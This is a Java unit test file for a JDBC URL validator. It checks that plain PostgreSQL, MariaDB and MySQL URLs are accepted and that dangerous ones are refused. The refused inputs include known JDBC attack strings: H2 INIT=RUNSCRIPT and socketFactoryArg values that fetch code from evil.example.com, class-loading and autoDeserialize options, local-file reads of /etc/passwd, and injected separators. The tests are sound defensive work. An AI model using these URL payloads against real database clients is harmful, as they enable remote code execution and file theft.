package dev.modelrun.adapters.jdbc.source;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.modelrun.core.model.InvalidInputException;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class JdbcUrlTest {
  private static final JdbcSourcePolicy DEFAULTS = JdbcSourcePolicy.defaults();

  @ParameterizedTest
  @ValueSource(strings = {
      "jdbc:postgresql://db.example.com:5432/sales",
      "jdbc:postgresql://db.example.com/sales?sslmode=verify-full&ApplicationName=reports",
      "jdbc:postgresql://primary:5432,replica:5433/sales?targetServerType=preferSecondary&loadBalanceHosts=true",
      "jdbc:postgresql://[::1]:5432/sales",
      "jdbc:postgresql:sales",
      "jdbc:postgresql://10.0.0.7/",
      "jdbc:mariadb://db.example.com:3306/sales?sslMode=verify-full&useCompression=true",
      "jdbc:mariadb:sequential://a.example.com,b.example.com/sales",
      "jdbc:mysql://db.example.com/sales?tcpKeepAlive=true"})
  void accepts_plain_urls_of_the_known_databases_with_safe_options(String url) {
    assertThat(JdbcUrl.parse(url, DEFAULTS).url()).isEqualTo(url);
  }

  @Test
  void serves_mysql_urls_with_the_mariadb_driver() {
    JdbcUrl url = JdbcUrl.parse("jdbc:mysql://db.example.com:3306/sales?sslMode=trust", DEFAULTS);

    assertThat(url.kind()).isEqualTo(DatabaseKind.MYSQL);
    assertThat(url.driverUrl()).isEqualTo("jdbc:mariadb://db.example.com:3306/sales?sslMode=trust");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example.com/evil.sql'",
      "jdbc:h2:file:/etc/passwd",
      "file:/etc/passwd",
      "jdbc:sqlite:/var/lib/data.db",
      "jdbc:oracle:thin:@db:1521:orcl",
      "JDBC:POSTGRESQL://db/sales",
      " jdbc:postgresql://db/sales",
      "jdbc:derby:memory:x;create=true"})
  void refuses_urls_without_an_allowed_prefix(String url) {
    assertThatThrownBy(() -> JdbcUrl.parse(url, DEFAULTS))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageStartingWith("input.url must start with one of the allowed prefixes (jdbc:postgresql:, "
            + "jdbc:mariadb:, jdbc:mysql:, set by MODELRUN_JDBC_SOURCE_ALLOWED)");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "jdbc:postgresql://db/sales?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
      "jdbc:postgresql://db/sales?socketFactoryArg=http://evil.example.com/bean.xml",
      "jdbc:postgresql://db/sales?sslfactory=com.evil.Factory",
      "jdbc:postgresql://db/sales?sslhostnameverifier=com.evil.Verifier",
      "jdbc:postgresql://db/sales?sslpasswordcallback=com.evil.Callback",
      "jdbc:postgresql://db/sales?authenticationPluginClassName=com.evil.Plugin",
      "jdbc:postgresql://db/sales?loggerFile=/tmp/evil.log",
      "jdbc:postgresql://db/sales?loggerLevel=TRACE",
      "jdbc:postgresql://db/sales?sslkey=/etc/ssl/private/server.key",
      "jdbc:postgresql://db/sales?sslcert=/etc/ssl/certs/server.crt",
      "jdbc:postgresql://db/sales?sslrootcert=/etc/passwd",
      "jdbc:postgresql://db/sales?xmlFactoryFactory=com.evil.Xml",
      "jdbc:postgresql://db/sales?connectExecutor=com.evil.Executor",
      "jdbc:postgresql://db/sales?service=prod",
      "jdbc:postgresql://db/sales?options=-c%20statement_timeout=0",
      "jdbc:postgresql://db/sales?socketTimeout=0",
      "jdbc:postgresql://db/sales?host=evil.example.com",
      "jdbc:postgresql://db/sales?SOCKETFACTORY=com.evil.Factory",
      "jdbc:postgresql://db/sales?%73ocketFactory=com.evil.Factory",
      "jdbc:mariadb://db/sales?allowLoadLocalInfile=true",
      "jdbc:mariadb://db/sales?allowLocalInfile=true",
      "jdbc:mariadb://db/sales?autoDeserialize=true",
      "jdbc:mariadb://db/sales?credentialType=ENV",
      "jdbc:mariadb://db/sales?socketFactory=com.evil.Factory",
      "jdbc:mariadb://db/sales?allowMultiQueries=true",
      "jdbc:mariadb://db/sales?initSql=drop%20table%20x",
      "jdbc:mariadb://db/sales?sessionVariables=max_statement_time=0",
      "jdbc:mariadb://db/sales?serverSslCert=/etc/passwd",
      "jdbc:mariadb://db/sales?localSocket=/var/run/mysqld/mysqld.sock",
      "jdbc:mariadb://db/sales?permitRedirect=true",
      "jdbc:mysql://db/sales?allowLoadLocalInfile=true",
      "jdbc:mysql://db/sales?autoDeserialize=true&queryInterceptors=com.evil.Interceptor"})
  void refuses_options_that_load_classes_read_files_or_lift_limits(String url) {
    assertThatThrownBy(() -> JdbcUrl.parse(url, DEFAULTS))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageStartingWith("input.url");
  }

  @Test
  void names_the_refused_option_and_the_allowed_ones() {
    assertThatThrownBy(() -> JdbcUrl.parse("jdbc:mariadb://db/sales?allowLocalInfile=true", DEFAULTS))
        .hasMessage("input.url option 'allowLocalInfile' is not allowed: options that load classes, read files or "
            + "change the connection's limits are refused (allowed options: [sslmode, tcpkeepalive, "
            + "usecompression])");
  }

  @Test
  void refuses_an_allowed_option_with_a_value_outside_its_list() {
    assertThatThrownBy(() -> JdbcUrl.parse("jdbc:postgresql://db/sales?sslmode=whatever", DEFAULTS))
        .hasMessageStartingWith("input.url option 'sslmode' has value 'whatever', which is not allowed");
    assertThatThrownBy(() -> JdbcUrl.parse("jdbc:postgresql://db/sales?ApplicationName=a/../b", DEFAULTS))
        .hasMessageContaining("plain text only");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "jdbc:postgresql://db/sales?user=admin",
      "jdbc:postgresql://db/sales?password=hunter2",
      "jdbc:mariadb://db/sales?PASSWORD=hunter2"})
  void refuses_credentials_in_the_url(String url) {
    assertThatThrownBy(() -> JdbcUrl.parse(url, DEFAULTS))
        .hasMessageContaining("must not carry the")
        .hasMessageContaining("give it in input.username and input.password")
        .hasMessageNotContaining("hunter2");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "jdbc:postgresql://admin:hunter2@db/sales",
      "jdbc:postgresql://db/sales;INIT=evil",
      "jdbc:postgresql://db/sales?ssl=true#fragment",
      "jdbc:postgresql://db/sa les",
      "jdbc:postgresql://db/sales\nsslfactory=x",
      "jdbc:postgresql://db\\sales"})
  void refuses_credentials_semicolons_and_odd_characters(String url) {
    assertThatThrownBy(() -> JdbcUrl.parse(url, DEFAULTS))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageStartingWith("input.url must not contain");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "jdbc:mariadb://address=(host=db)(port=3306)(type=primary)/sales",
      "jdbc:mariadb:aurora://db/sales",
      "jdbc:mariadb:sales",
      "jdbc:postgresql:///sales",
      "jdbc:postgresql://db:99999x/sales",
      "jdbc:postgresql://db/sales/more",
      "jdbc:postgresql:/etc/passwd"})
  void refuses_urls_of_another_shape(String url) {
    assertThatThrownBy(() -> JdbcUrl.parse(url, DEFAULTS))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageStartingWith("input.url");
  }

  @Test
  void narrows_to_the_hosts_of_a_longer_prefix() {
    JdbcSourcePolicy reportsOnly = DEFAULTS.withAllowedPrefixes(List.of("jdbc:postgresql://reports.internal:5432/"));

    assertThat(JdbcUrl.parse("jdbc:postgresql://reports.internal:5432/sales", reportsOnly).kind())
        .isEqualTo(DatabaseKind.POSTGRESQL);
    assertThatThrownBy(() -> JdbcUrl.parse("jdbc:postgresql://elsewhere:5432/sales", reportsOnly))
        .hasMessageContaining("allowed prefixes (jdbc:postgresql://reports.internal:5432/,");
    assertThatThrownBy(() -> JdbcUrl.parse("jdbc:mariadb://reports.internal:5432/sales", reportsOnly))
        .isInstanceOf(InvalidInputException.class);
  }
}
